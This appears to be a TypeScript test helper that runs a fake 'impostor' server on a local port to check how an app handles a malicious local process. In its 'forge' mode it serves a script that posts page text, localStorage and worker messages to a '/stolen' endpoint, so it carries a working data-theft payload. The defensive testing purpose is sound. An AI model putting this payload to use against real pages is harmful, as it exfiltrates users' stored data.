import { execFileSync, spawn } from 'node:child_process';
import { once } from 'node:events';
import { tmpdir } from 'node:os';

/** A program of another user of this machine that has taken a port. */
export interface Impostor {
  /** Every byte that it was sent. */
  readonly received: () => Buffer;
  readonly stop: () => Promise<void>;
}

/** How it answers: not at all, with the body that it was sent, or with whatever the path should have. */
export type ImpostorManner = 'silent' | 'echo' | 'forge';

/** Whether it can be another user: only root can start it as one. */
export const isOtherUser = process.getuid?.() === 0;

/**
 * Takes the port, as the user `nobody` where this is root and else as the same one, and writes down all that comes. Its
 * scripts send what they find in the page or the worker that loads them.
 */
export async function startImpostor(port: number, manner: ImpostorManner): Promise<Impostor> {
  const account = (what: '-u' | '-g'): number =>
    Number(execFileSync('id', [what, 'nobody'], { encoding: 'utf8' }));
  const program = spawn(process.execPath, ['--eval', source, String(port), manner], {
    cwd: tmpdir(),
    env: {},
    stdio: ['ignore', 'pipe', 'inherit'],
    ...(isOtherUser ? { uid: account('-u'), gid: account('-g') } : {}),
  });
  const closed = once(program, 'close');
  const parts: Buffer[] = [];
  await once(program.stdout, 'data');
  program.stdout.on('data', (part: Buffer) => parts.push(part));
  return {
    received: () => Buffer.concat(parts),
    stop: async () => {
      program.kill('SIGKILL');
      await closed;
    },
  };
}

/** A program of its own, since another user may not read this folder. */
const source = String.raw`
const [port, manner] = process.argv.slice(1);
const steal = (what) => 'fetch("/stolen", { method: "POST", body: JSON.stringify(' + what + ') })';
const script = 'onmessage = ({ data }) => { ' + steal('data') + ' };' +
  'postMessage({ type: "loaded" });' +
  'if (typeof document !== "undefined") ' + steal('[document.body.innerText, { ...localStorage }]') + ';';
const typeOf = (path) => path.endsWith('.js') ? 'text/javascript' : path === '/' ? 'text/html' : 'application/octet-stream';
const forged = (path) => path.endsWith('.js') ? script
  : path === '/' ? '<body>Tieout<script src="/stolen.js"></script></body>'
  : JSON.stringify({ ok: true, value: { ok: true, value: null } });
require('node:http').createServer((request, response) => {
  const parts = [];
  process.stdout.write(request.method + ' ' + request.url + '\n' + request.rawHeaders.join('\n') + '\n');
  request.on('data', (part) => { parts.push(part); process.stdout.write(part); });
  request.on('end', () => {
    if (manner === 'silent') return;
    response.setHeader('content-type', typeOf(request.url));
    response.end(manner === 'echo' ? Buffer.concat(parts) : forged(request.url));
  });
}).listen(Number(port), '127.0.0.1', () => process.stdout.write('listens\n'));
`;
